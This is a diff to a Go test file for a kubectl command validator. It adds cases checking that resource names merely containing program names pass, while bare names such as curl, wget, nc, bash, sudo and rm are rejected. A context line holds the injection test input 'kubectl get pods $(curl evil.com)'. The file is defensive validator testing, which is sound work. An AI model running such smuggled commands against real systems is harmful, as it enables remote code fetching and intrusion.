@@ -67,6 +67,24 @@ func TestValidateKubectlCommand(t *testing.T) {
 			shouldError: false,
 			description: "Valid kubectl apply command should pass",
 		},
+		{
+			name:        "valid_node_commands",
+			command:     "kubectl get pods --all-namespaces --field-selector spec.nodeName=worker-1",
+			shouldError: false,
+			description: "Resource names and fields containing program names should pass",
+		},
+		{
+			name:        "valid_top_nodes",
+			command:     "kubectl top nodes",
+			shouldError: false,
+			description: "kubectl top nodes should pass",
+		},
+		{
+			name:        "program_as_argument",
+			command:     "kubectl get pods python3",
+			shouldError: true,
+			description: "Program names as whole words should be rejected",
+		},
 		{
 			name:        "dangerous_bash_injection",
 			command:     "kubectl get pods $(curl evil.com)",
@@ -157,3 +175,60 @@ func TestRefinedCommandInjectionDetection(t *testing.T) {
 		})
 	}
 }
+
+// Program names used to be rejected anywhere in a command, which blocked
+// ordinary resource names such as "nodes" or "shop". They are now matched as
+// whole words, also with a path.
+func TestProgramNamesMatchedAsWords(t *testing.T) {
+	allowed := []string{
+		"kubectl get pods -l app=curlbox",
+		"kubectl logs wget-job-1",
+		"kubectl get configmaps sync-config",
+		"kubectl get pods netcat-probe",
+		"kubectl describe pod storm -n web",
+		"kubectl get pods dmv -n web",
+		"kubectl get svc tcp -n web",
+		"kubectl get jobs chmod-fixer",
+		"kubectl get jobs chown-fixer",
+		"kubectl get pods sudoku-0",
+		"kubectl get ns kasu -o wide",
+		"kubectl get pods bash-runner",
+		"kubectl get pods -n shop",
+		"kubectl get deployments python-worker",
+		"kubectl get cronjobs perl-report",
+		"kubectl get pods ruby-app",
+		"kubectl get node worker-1",
+		"kubectl top nodes",
+	}
+	for _, command := range allowed {
+		if err := kubectl.ValidateKubectlCommand(command); err != nil {
+			t.Errorf("Expected %q to pass, got %v", command, err)
+		}
+	}
+
+	rejected := []string{
+		"kubectl get pods curl",
+		"kubectl get pods wget",
+		"kubectl get pods nc",
+		"kubectl get pods netcat",
+		"kubectl get pods rm",
+		"kubectl get pods mv",
+		"kubectl get pods cp",
+		"kubectl get pods chmod",
+		"kubectl get pods chown",
+		"kubectl get pods sudo",
+		"kubectl get pods su",
+		"kubectl get pods bash",
+		"kubectl get pods sh",
+		"kubectl get pods python",
+		"kubectl get pods perl",
+		"kubectl get pods ruby",
+		"kubectl get pods /usr/local/bin/python3",
+		"kubectl get pods CURL",
+	}
+	for _, command := range rejected {
+		if err := kubectl.ValidateKubectlCommand(command); err == nil {
+			t.Errorf("Expected %q to be rejected", command)
+		}
+	}
+}